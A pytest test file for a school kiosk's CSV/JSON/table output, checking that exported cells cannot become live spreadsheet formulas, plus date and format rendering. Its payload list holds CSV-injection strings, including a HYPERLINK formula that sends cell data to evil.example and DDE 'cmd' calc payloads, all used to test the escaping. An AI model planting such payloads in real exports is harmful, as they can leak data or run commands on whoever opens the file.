"""Spreadsheets out (kiosk/output.py): every CSV the kiosk writes opens in Excel or LibreOffice as text, never as a
live formula (OWASP CSV injection); yes/no as the table shows them; times to the second with their offset; a header
row even with no rows; and a table shows the year of a time outside this school year.

The writer is checked alone with hypothesis (through Python's csv reader), and then as a spreadsheet reads it:
LibreOffice headless converts a batch of cells to .xlsx and openpyxl reads them back (tests/spreadsheet.py).
"""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from db.core import LoanStatus, day_and_time, in_school_year, when
from kiosk.output import FORMULA_STARTS, csv_cell, emit, spreadsheet_text, write_csv
from tests.conftest import LONDON
from tests.spreadsheet import NO_SOFFICE, SOFFICE, open_as_spreadsheet, shown

# What OWASP's CSV injection page and its references use: formulas, DDE, a link that sends data away.
PAYLOADS = ("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-5", "+44 20 7946 0000",
            "=-2+3", '="quoted"', "=1+1,=2+2", "'already quoted", "plain text", "Zoë O’Brien-Nguyễn", "")
# Those LibreOffice makes formulas of, written as they are (Excel also takes "+1+1", "-1+1" and "@SUM(…)").
FORMULA = ("=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "=-2+3")

starts = st.sampled_from([*FORMULA_STARTS, "'", '"', " ", "\n", ",", "=HYPERLINK(", "=1+"])
# "\x1f" is what write_csv joins a row's cells with to look at them at once: a cell holding it is still written (an
# .xlsx cannot hold it, so only the writer alone is given it).
any_text = st.one_of(st.text(), st.builds(str.__add__, st.one_of(starts, st.sampled_from(["\x1f", "\x1f="])),
                                          st.text()))


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def written(rows: list[dict], keys: tuple[str, ...]) -> str:
    out = io.StringIO(newline="")
    write_csv(rows, keys, out)
    return out.getvalue()


# --- the writer alone ------------------------------------------------------------------------------------------------

def test_a_cell_that_would_be_a_formula_gets_a_quote_in_front_and_is_quoted():
    text = written([{"name": name, "images": 3} for name in PAYLOADS], ("name", "images"))
    lines = text.split("\n")
    assert lines[0] == "name,images"
    assert lines[1] == "\"'=1+1\",3"
    assert lines[5] == "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",3"
    assert "\"'-5\",3" in lines and "\"'+44 20 7946 0000\",3" in lines  # text is text, even when it looks a number
    assert "plain text,3" in lines and "\"'already quoted\",3" in lines and ",3" in lines
    cells = [row[0] for row in read_back(text)[1:]]
    assert cells == [spreadsheet_text(name) for name in PAYLOADS]
    assert cells[:3] == ["'=1+1", "'+1+1", "'-1+1"] and cells[7:9] == ["'\t=1+1", "'\r=1+1"]


def test_numbers_stay_numbers_and_a_number_is_never_neutralised():
    # The kiosk's numbers are counts, never negative; were one negative, a number is still no formula.
    keys = ("images", "verified", "odd")
    assert written([{"images": 12, "verified": 0, "odd": -5}], keys).split("\n")[1] == "12,0,-5"
    assert csv_cell(-5) == -5 and csv_cell("-5") == "'-5"


@given(st.lists(any_text, min_size=1, max_size=6))
def test_any_text_comes_back_from_the_csv_as_written_and_never_starts_a_formula(texts):
    keys = tuple(f"column {n}" for n in range(len(texts)))
    rows = read_back(written([dict(zip(keys, texts)), dict(zip(keys, reversed(texts)))], keys))
    assert rows[0] == list(keys) and len(rows) == 3
    for cells, originals in ((rows[1], texts), (rows[2], texts[::-1])):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
        # The one quote added in front is all that changed.
        assert [cell[1:] if text.startswith(FORMULA_STARTS) else cell for cell, text in zip(cells, originals)] \
            == originals


def test_yes_no_times_and_days_are_written_as_the_school_reads_them():
    moment = datetime(2026, 7, 14, 9, 5, 7, 123456, tzinfo=LONDON)  # BST: +01:00
    row = {"registered": False, "wiped": True, "at": moment, "review_on": date(2027, 1, 31), "note": None,
           "status": LoanStatus.NOT_BACK}
    keys = tuple(row)
    assert read_back(written([row], keys))[1] == ["no", "yes", "2026-07-14T09:05:07+01:00", "2027-01-31", "",
                                                  "not back"]
    table = io.StringIO()
    emit([row], "table", keys=keys, empty="", today=date(2026, 7, 20), out=table)
    assert table.getvalue().splitlines()[1].split() == ["no", "yes", "Tue", "14", "Jul", "09:05", "Sun", "31", "Jan",
                                                        "2027", "not", "back"]


def test_json_keeps_its_types_with_times_to_the_second():
    out = io.StringIO()
    moment = datetime(2026, 11, 10, 8, 40, 12, 999999, tzinfo=LONDON)
    emit([{"since": moment, "registered": False, "name": "=1+1", "images": 3}], "json",
         keys=("since", "registered", "name", "images"), empty="", out=out)
    # JSON is data for scripts, not a spreadsheet: the text is as it was.
    assert json.loads(out.getvalue()) == [{"since": "2026-11-10T08:40:12+00:00", "registered": False, "name": "=1+1",
                                           "images": 3}]


@pytest.mark.parametrize("fmt", ["csv", "json", "table"])
def test_no_rows_still_has_the_listings_columns(fmt):
    out = io.StringIO()
    emit([], fmt, keys=("code", "kind", "label"), empty="No tags have been issued yet.", out=out)
    assert out.getvalue() == {"csv": "code,kind,label\n", "json": "[]\n",
                              "table": "No tags have been issued yet.\n"}[fmt]


def test_a_row_with_other_keys_than_the_listings_is_a_mistake_in_the_kiosk():
    with pytest.raises(ValueError, match="not the listing's"):
        emit([{"code": "P-1", "kind": "phone"}], "csv", keys=("code", "kind", "label"), empty="")


@pytest.mark.parametrize("fmt", ["csv", "json", "table"])
def test_a_file_name_with_bytes_that_are_not_utf8_is_written_with_a_replacement_character(fmt):
    name = b"Trip \xe9t\xe9.jpg".decode("utf-8", "surrogateescape")  # as Python lists a Latin-1 file name
    out = io.BytesIO()
    text = io.TextIOWrapper(out, encoding="utf-8", newline="")  # strict, like a UTF-8 stdout
    emit([{"file": name, "note": "-"}], fmt, keys=("file", "note"), empty="", out=text)
    text.flush()
    assert "Trip \ufffdt\ufffd.jpg" in out.getvalue().decode("utf-8")


# --- the year in a table ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("day", "shown_as"), [
    (date(2026, 9, 1), "Tue 01 Sep 09:30"),  # the first day of this school year
    (date(2027, 8, 31), "Tue 31 Aug 09:30"),  # its last
    (date(2026, 8, 31), "Mon 31 Aug 2026 09:30"),  # last school year
    (date(2027, 9, 1), "Wed 01 Sep 2027 09:30"),  # next
    (date(2020, 11, 10), "Tue 10 Nov 2020 09:30"),
])
def test_a_table_shows_the_year_of_a_time_outside_this_school_year(day, shown_as):
    moment = datetime.combine(day, datetime.min.time(), tzinfo=LONDON).replace(hour=9, minute=30)
    assert day_and_time(moment, date(2026, 11, 10)) == shown_as
    out = io.StringIO()
    emit([{"since": moment}], "table", keys=("since",), empty="", today=date(2026, 11, 10), out=out)
    assert out.getvalue() == f"SINCE\n{shown_as}\n"


@given(st.dates(date(2000, 1, 1), date(2098, 12, 31)), st.integers(-800, 800))
def test_the_year_is_shown_exactly_when_the_day_is_in_another_school_year(today, days):
    day = today + timedelta(days=days)
    start = date(today.year if today.month >= 9 else today.year - 1, 9, 1)
    assert in_school_year(day, today) == (start <= day <= date(start.year + 1, 8, 31))
    moment = datetime(day.year, day.month, day.day, 13, 5, tzinfo=timezone.utc)
    assert (str(day.year) in day_and_time(moment, today)) == (not in_school_year(day, today))
    now = datetime(today.year, today.month, today.day, 8, 0, tzinfo=timezone.utc)
    assert when(moment, now).endswith(f" {day.year}") == (day != today and not in_school_year(day, today))


# --- as a spreadsheet opens it: LibreOffice, then openpyxl -----------------------------------------------------------

# Characters an .xlsx can hold (XML 1.0): no other control characters, no surrogates, no U+FFFE/U+FFFF.
SHEET_CHARACTERS = st.characters(blacklist_categories=("Cs",), blacklist_characters=[
    *(chr(c) for c in range(32) if chr(c) not in "\t\n\r"), "\x7f", *(chr(c) for c in range(0x80, 0xa0)),
    "\ufffe", "\uffff"])
sheet_text = st.one_of(st.text(SHEET_CHARACTERS, max_size=24),
                       st.builds(str.__add__, starts, st.text(SHEET_CHARACTERS, max_size=24)))
# A spreadsheet reads some text as a number, date or TRUE ("17", "1/2", "TRUE": its own type guessing, not a
# formula). A cell ending in ß is none of those, so it must come back exactly as text.
NOT_A_NUMBER = "ß"


@pytest.fixture(scope="session")
def libreoffice(tmp_path_factory) -> Path:
    """LibreOffice's user folder for this session (made on first start)."""
    if SOFFICE is None:
        pytest.skip(NO_SOFFICE)
    return tmp_path_factory.mktemp("libreoffice-profile")


def as_spreadsheet_reads_it(text: str) -> str:
    """The kiosk's cell as LibreOffice shows it: it keeps the neutralising quote visible (it hides a quote typed
    into a cell, not one read from a CSV file), and makes CR, CRLF and LFCR inside a cell one line feed (read left to
    right, as its line reader does)."""
    return re.sub(r"\r\n|\n\r|\r", "\n", spreadsheet_text(text))


def save_for_people(path: Path, rows: list[dict], keys: tuple[str, ...]) -> Path:
    """As the review screen saves its export: UTF-8 with a byte-order mark."""
    with path.open("x", encoding="utf-8-sig", newline="") as out:
        write_csv(rows, keys, out)
    return path


@pytest.mark.slow
def test_owasp_payloads_open_in_libreoffice_as_text_and_would_have_been_formulas(libreoffice, tmp_path):
    kiosk = save_for_people(tmp_path / "kiosk.csv", [{"n": n, "text": text} for n, text in enumerate(PAYLOADS)],
                            ("n", "text"))
    # The same cells written by Python's csv module alone: LibreOffice makes formulas of them, so the check can tell.
    raw = tmp_path / "raw.csv"
    with raw.open("w", encoding="utf-8-sig", newline="") as out:
        csv.writer(out).writerows([("n", "text"), *enumerate(PAYLOADS)])
    kiosk_sheet, raw_sheet = open_as_spreadsheet([kiosk, raw], libreoffice)
    assert [(n.value, text.value) for n, text in kiosk_sheet[:2]] == [("n", "text"), (0, "'=1+1")]
    for text, (number, cell) in zip(PAYLOADS, kiosk_sheet[1:], strict=True):
        assert cell.data_type != "f", text
        assert shown(cell) == as_spreadsheet_reads_it(text) and number.data_type == "n"
    formulas = {text for text, (_, cell) in zip(PAYLOADS, raw_sheet[1:]) if cell.data_type == "f"}
    assert set(FORMULA) <= formulas


@pytest.mark.slow
# Each try starts LibreOffice (about two seconds): six batches of sixty cells, and no shrinking (minutes of restarts);
# a failure names the text.
@settings(max_examples=6, deadline=None, phases=[Phase.explicit, Phase.reuse, Phase.generate],
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(st.lists(st.tuples(sheet_text, st.booleans()), min_size=60, max_size=60))
def test_any_text_opens_in_libreoffice_as_text_never_a_formula(libreoffice, cells):
    texts = [text + NOT_A_NUMBER if plain else text for text, plain in cells]
    with tempfile.TemporaryDirectory() as folder:
        path = save_for_people(Path(folder) / "cells.csv", [{"n": n, "text": t} for n, t in enumerate(texts)],
                               ("n", "text"))
        (sheet,) = open_as_spreadsheet([path], libreoffice)
    assert len(sheet) == len(texts) + 1  # no cell broke a row in two
    for n, (text, (number, cell)) in enumerate(zip(texts, sheet[1:])):
        assert number.value == n
        assert cell.data_type != "f", text
        if cell.data_type == "s" or text.endswith(NOT_A_NUMBER):
            assert shown(cell) == as_spreadsheet_reads_it(text)
